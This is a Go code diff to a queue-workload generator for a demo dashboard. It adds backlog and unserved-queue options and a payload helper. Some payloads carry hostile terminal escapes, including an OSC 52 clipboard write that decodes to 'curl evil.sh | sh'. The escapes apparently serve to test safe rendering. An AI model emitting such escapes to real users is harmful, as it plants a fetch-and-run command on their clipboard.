@@ -31,6 +31,12 @@ type Config struct {
 	WorkMax   time.Duration // a normal job's work takes up to this [50ms]
 	Reaper    time.Duration // requeue-expired every so often; 0: no reaper
 	Hostile   float64       // share of payloads full of terminal escapes (for the demo)
+	// Backlog: before the producers start, every queue is given 1 to
+	// Backlog pending jobs, so the dashboard has every queue at once; 0: none.
+	Backlog int
+	// Unserved is the share of the synthetic queues that no worker claims
+	// from (their consumers are down): their backlog only grows.
+	Unserved float64
 	// OnAck, when set, is called for every successful ack.
 	OnAck func(queue, id string)
 }
@@ -45,6 +51,7 @@ type Workload struct {
 	cfg    Config
 	c      valkey.Client
 	queues []string
+	served []string  // the queues the workers claim from
 	weight []float64 // cumulative
 
 	enqueued, claimed, acked, fenced, abandoned, reaped, errs atomic.Int64
@@ -74,6 +81,16 @@ func New(c valkey.Client, cfg Config) *Workload {
 	w.queues = append(w.queues, Named...)
 	for i := 0; i < cfg.Synthetic; i++ {
 		w.queues = append(w.queues, fmt.Sprintf("tenant-%03d", i))
+	}
+	// every n-th synthetic queue is unserved, so the share holds for any count
+	every := 0
+	if cfg.Unserved > 0 {
+		every = max(1, int(1/cfg.Unserved+0.5))
+	}
+	for i, q := range w.queues {
+		if i < len(Named) || every == 0 || (i-len(Named))%every != every-1 {
+			w.served = append(w.served, q)
+		}
 	}
 	// named queues carry most of the traffic, synthetic ones a long tail
 	sum := 0.0
@@ -127,8 +144,12 @@ func (w *Workload) pick(r *rand.Rand) string {
 	return w.queues[lo]
 }
 
+// Served are the queues the workers claim from.
+func (w *Workload) Served() []string { return w.served }
+
 // Run runs until ctx ends and returns when every goroutine has stopped.
 func (w *Workload) Run(ctx context.Context) {
+	w.backlog(ctx, rand.New(rand.NewPCG(w.cfg.Seed, 2)))
 	var wg sync.WaitGroup
 	wg.Add(1)
 	go func() { defer wg.Done(); w.produce(ctx, rand.New(rand.NewPCG(w.cfg.Seed, 1))) }()
@@ -165,11 +186,7 @@ func (w *Workload) produce(ctx context.Context, r *rand.Rand) {
 					return
 				}
 				q := w.pick(r)
-				payload := fmt.Sprintf(`{"queue":%q,"n":%d,"amount":%d.%02d}`, q, r.IntN(1e6), r.IntN(500), r.IntN(100))
-				if r.Float64() < w.cfg.Hostile {
-					payload = "\x1b]0;owned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07" + payload
-				}
-				if _, err := echomq.Enqueue(ctx, w.c, q, []byte(payload)); err != nil {
+				if _, err := echomq.Enqueue(ctx, w.c, q, w.payload(r, q)); err != nil {
 					w.fail(err)
 					continue
 				}
@@ -179,20 +196,48 @@ func (w *Workload) produce(ctx context.Context, r *rand.Rand) {
 	}
 }
 
-// work claims round-robin over the queues, starting at a random one, and
+// backlog gives every queue 1 to Backlog pending jobs, counted as enqueued.
+func (w *Workload) backlog(ctx context.Context, r *rand.Rand) {
+	if w.cfg.Backlog <= 0 {
+		return
+	}
+	for _, q := range w.queues {
+		for n := 1 + r.IntN(w.cfg.Backlog); n > 0 && ctx.Err() == nil; n-- {
+			if w.cfg.Total > 0 && w.enqueued.Load() >= w.cfg.Total {
+				return
+			}
+			if _, err := echomq.Enqueue(ctx, w.c, q, w.payload(r, q)); err != nil {
+				w.fail(err)
+				continue
+			}
+			w.enqueued.Add(1)
+		}
+	}
+}
+
+func (w *Workload) payload(r *rand.Rand, q string) []byte {
+	p := fmt.Sprintf(`{"queue":%q,"n":%d,"amount":%d.%02d}`, q, r.IntN(1e6), r.IntN(500), r.IntN(100))
+	if r.Float64() < w.cfg.Hostile {
+		p = "\x1b]0;owned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07" + p
+	}
+	return []byte(p)
+}
+
+// work claims round-robin over the served queues, starting at a random one, and
 // naps when a whole pass found nothing.
 func (w *Workload) work(ctx context.Context, r *rand.Rand, _ int) {
-	i := r.IntN(len(w.queues))
+	qs := w.served
+	i := r.IntN(len(qs))
 	misses := 0
 	for ctx.Err() == nil {
-		q := w.queues[i]
+		q := qs[i]
 		job, ok, err := echomq.Claim(ctx, w.c, q, w.cfg.Lease)
 		if err != nil {
 			w.fail(err)
 		}
 		if !ok {
-			i = (i + 1) % len(w.queues)
-			if misses++; misses >= len(w.queues) {
+			i = (i + 1) % len(qs)
+			if misses++; misses >= len(qs) {
 				misses = 0
 				sleep(ctx, 20*time.Millisecond)
 			}
@@ -226,7 +271,7 @@ func (w *Workload) work(ctx context.Context, r *rand.Rand, _ int) {
 			w.fail(err)
 		}
 		if r.IntN(4) == 0 { // spread the workers over the queues
-			i = r.IntN(len(w.queues))
+			i = r.IntN(len(qs))
 		}
 	}
 }
